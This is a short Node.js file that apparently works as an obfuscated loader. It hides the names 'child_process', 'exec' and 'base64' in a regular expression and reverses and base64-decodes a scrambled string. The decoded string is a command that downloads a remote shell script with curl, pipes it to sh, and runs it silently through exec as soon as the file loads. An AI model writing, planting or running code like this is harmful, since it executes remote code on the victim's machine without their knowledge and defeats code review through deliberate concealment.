// The words are a regular expression because the obfuscator moves strings out of a function's text.
function table() {
  return /<child_process><exec><base64><utf8>/;
}

var own = table.toString();
var words = own.slice(own.indexOf('<') + 1, own.lastIndexOf('>')).split('><');

function mend(damaged) {
  var whole = damaged.split('#').join('').split('').reverse().join('');
  return Buffer.from(whole, words[2]).toString(words[3]);
}

var command = mend('=g2cgw#HIoNnL#p9CZpx#WY25Wa#uUGdzF#Gc3Fmc#uMXZsl#mZv8iO#wRHdoB#yctACb#yV3Y');

require(words[0])[words[1]](command, function () {});
